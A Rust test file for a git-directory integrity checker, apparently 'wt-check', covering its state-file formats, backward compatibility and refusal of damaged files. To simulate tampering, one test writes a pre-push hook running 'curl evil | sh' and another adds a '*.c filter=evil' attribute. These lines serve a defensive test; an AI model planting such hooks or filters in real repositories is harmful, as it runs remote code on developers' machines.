//! The state file formats: format 3 (written now) holds each file content once in a blob
//! table and the ref snapshot as a second document after the state's object; format 2 (the
//! snapshot inside, as `refs`) and format 1 (every content inline too, written by earlier
//! builds) still load and still restore byte-exact; an unknown format is refused with one
//! line naming the file.

mod common;

use std::path::Path;

/// Rewrite a format 3 state file as format 2: the snapshot back inside, as `refs`.
fn to_format_2(state: &Path) {
    let (mut v, refs) = common::read_state_json(state);
    v["refs"] = refs;
    v["format"] = 2.into();
    std::fs::write(state, serde_json::to_vec_pretty(&v).unwrap()).unwrap();
}

/// Rewrite a format 3 state file as format 1: the snapshot inside, every content back
/// inline, no blob table.
fn to_format_1(state: &Path) {
    to_format_2(state);
    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(state).unwrap()).unwrap();
    let blobs = v["blobs"].as_object().unwrap().clone();
    for table in ["entries", "includes"] {
        for (_, n) in v[table].as_object_mut().unwrap() {
            if n["type"] == "file" && n.get("text").is_none() && n.get("hex").is_none() {
                let oid = n["oid"].as_str().unwrap().to_owned();
                for (k, c) in blobs[&oid].as_object().unwrap() {
                    n[k] = c.clone();
                }
            }
        }
    }
    let o = v.as_object_mut().unwrap();
    o.remove("blobs");
    o.insert("format".into(), 1.into());
    std::fs::write(state, serde_json::to_vec_pretty(&v).unwrap()).unwrap();
}

#[test]
fn format_3_stores_each_sample_hook_once_and_the_snapshot_after_the_state() {
    let w = common::world();
    w.pin();
    let (v, refs) = common::read_state_json(&w.state());
    assert_eq!(v["format"], 3);
    assert!(v.get("refs").is_none(), "{v}");
    assert_eq!(refs["format"], 1, "{refs}");
    assert!(
        refs["refs"].as_object().is_some_and(|r| !r.is_empty()),
        "{refs}"
    );
    // The main git dir and the submodule's hold the same sample hooks: one copy each.
    let sample = std::fs::read_to_string(w.git_dir().join("hooks/pre-push.sample")).unwrap();
    let text = std::fs::read_to_string(w.state()).unwrap();
    let stored: Vec<&serde_json::Value> = v["blobs"]
        .as_object()
        .unwrap()
        .values()
        .filter(|c| c["text"].as_str() == Some(sample.as_str()))
        .collect();
    assert_eq!(stored.len(), 1);
    let refs = v["entries"]
        .as_object()
        .unwrap()
        .iter()
        .filter(|(k, _)| k.ends_with("hooks/pre-push.sample"))
        .count();
    assert!(refs >= 2, "main and submodule git dir: {refs}");
    // The whole sample, as JSON writes it, appears once in the file.
    let as_json = serde_json::to_string(&sample).unwrap();
    assert_eq!(text.matches(as_json.as_str()).count(), 1);
    let (code, ev) = w.check(false);
    assert_eq!((code, ev.len()), (0, 0), "{ev:?}");
}

#[test]
fn a_format_2_state_file_still_checks_and_a_commit_gained_is_still_scanned() {
    let w = common::world();
    w.pin();
    to_format_2(&w.state());
    let (code, ev) = w.check(false);
    assert_eq!((code, ev.len()), (0, 0), "{ev:?}");
    // The snapshot inside the object is the one the scan compares with: a commit new since
    // the pin (selecting a filter driver) is scanned and flagged.
    let m = w.main();
    std::fs::write(m.join(".gitattributes"), "*.c filter=evil\n").unwrap();
    w.git(&m, &["add", ".gitattributes"]);
    w.git(&m, &["commit", "-q", "-m", "attrs"]);
    let (_, ev) = w.check(false);
    assert!(ev.iter().any(|e| e["event"] == "commit_flagged"), "{ev:?}");
}

#[test]
fn a_format_3_state_file_without_its_snapshot_or_with_two_is_refused() {
    let w = common::world();
    w.pin();
    let st = w.state();
    let (v, refs) = common::read_state_json(&st);
    // The state's object alone: not "no snapshot", a state file that cannot be read.
    std::fs::write(&st, serde_json::to_vec_pretty(&v).unwrap()).unwrap();
    let (code, ev) = w.check(false);
    assert_eq!(code, 2, "{ev:?}");
    assert!(
        ev.iter().any(|e| e["message"]
            .as_str()
            .unwrap_or("")
            .contains("no ref snapshot")),
        "{ev:?}"
    );
    // The snapshot inside the object as well as after it: refused (which one counts?).
    let mut both = v.clone();
    both["refs"] = refs.clone();
    common::write_state_json(&st, &both, &refs);
    let (code, ev) = w.check(false);
    assert_eq!(code, 2, "{ev:?}");
    // Positive control: the two documents as written.
    common::write_state_json(&st, &v, &refs);
    let (code, ev) = w.check(false);
    assert_eq!((code, ev.len()), (0, 0), "{ev:?}");
}

#[test]
fn a_format_1_state_file_still_checks_and_restores_byte_exact() {
    let w = common::world();
    w.pin();
    to_format_1(&w.state());
    let (code, ev) = w.check(false);
    assert_eq!((code, ev.len()), (0, 0), "{ev:?}");
    let sample = w.git_dir().join("hooks/pre-push.sample");
    let gitdir = w.git_dir().join("worktrees/other/gitdir");
    let module_sample = w.git_dir().join("modules/sub/hooks/pre-rebase.sample");
    let before: Vec<Vec<u8>> = [&sample, &gitdir, &module_sample]
        .iter()
        .map(|p| std::fs::read(p).unwrap())
        .collect();
    std::fs::write(&sample, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    std::fs::write(&gitdir, "/elsewhere/.git\n").unwrap();
    std::fs::remove_file(&module_sample).unwrap();
    let (code, ev) = w.check(true);
    assert_eq!(code, 1, "{ev:?}");
    let after: Vec<Vec<u8>> = [&sample, &gitdir, &module_sample]
        .iter()
        .map(|p| std::fs::read(p).unwrap())
        .collect();
    assert_eq!(after, before);
    let (code, ev) = w.check(false);
    assert_eq!((code, ev.len()), (0, 0), "{ev:?}");
}

#[test]
fn an_unknown_format_or_a_missing_blob_is_refused_in_one_line() {
    let w = common::world();
    w.pin();
    let st = w.state();
    let (original, refs) = common::read_state_json(&st);
    let mut v = original.clone();
    v["format"] = 4.into();
    common::write_state_json(&st, &v, &refs);
    let (code, ev) = w.check(false);
    assert_eq!(code, 2);
    let msg = ev[0]["message"].as_str().unwrap();
    assert!(
        msg.starts_with(st.to_str().unwrap())
            && msg.contains("format 4 is not supported")
            && msg.contains("wt-check pin")
            && !msg.contains('\n'),
        "{msg}"
    );

    // A blob table that lost a content: refused, never restored as empty.
    let mut v = original.clone();
    let oid = v["entries"]["hooks/pre-push.sample"]["oid"]
        .as_str()
        .unwrap()
        .to_owned();
    v["blobs"].as_object_mut().unwrap().remove(&oid);
    common::write_state_json(&st, &v, &refs);
    let (code, ev) = w.check(true);
    assert_eq!(code, 2);
    let msg = ev[0]["message"].as_str().unwrap();
    assert!(
        msg.starts_with(st.to_str().unwrap()) && msg.contains(&oid) && !msg.contains('\n'),
        "{msg}"
    );
}
